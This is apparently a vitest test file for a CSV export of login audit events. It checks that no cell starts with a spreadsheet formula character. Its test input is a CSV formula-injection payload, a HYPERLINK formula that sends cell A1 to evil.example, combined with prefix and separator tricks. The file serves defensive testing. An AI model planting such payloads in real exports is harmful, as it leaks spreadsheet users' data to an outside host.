import { expect, test } from 'vitest';
import { writeCsv } from './export.ts';

type Events = Parameters<typeof writeCsv>[0];

/** The cells of a file with one event, as a spreadsheet divides it that knows of no quotes within a cell. */
function cellsOf(value: string, separator: string): string[] {
  const event = {
    id: '1',
    happenedAt: '2026-11-29T12:00:00Z',
    kind: 'auth.login.failure',
    side: 'user',
    staff: null,
    actorId: value,
    subjectId: null,
    address: null,
    requestId: null,
    details: [{ name: 'email', value }],
  } as unknown as Events[number];
  return writeCsv([event]).split(new RegExp(`[${separator}\\r\\n]`));
}

test.each(['=', '+', '-', '@', '＝', '\t=', ' =', '"=', '\n='])(
  'no cell begins with a formula: %j',
  (start) => {
    const formula = `${start}HYPERLINK("https://evil.example/?"&A1)`;
    for (const separator of [',', ';', '\\t']) {
      for (const text of [formula, `x;${formula}`, `x\t${formula}`, `x\r\n${formula}`]) {
        // The comma divides none of these: a cell with one is in quotes.
        const cells = cellsOf(text, separator).filter((cell) => separator !== ',' || !cell.startsWith('"'));
        expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
      }
    }
  },
);

test('other texts stay as they are', () => {
  expect(cellsOf('o-r=d@x;y 2', '|')[2]).toBe(
    '2026-11-29T12:00:00Z,auth.login.failure,user,,o-r=d@x;y 2,,,,email=o-r=d@x;y 2,1',
  );
});
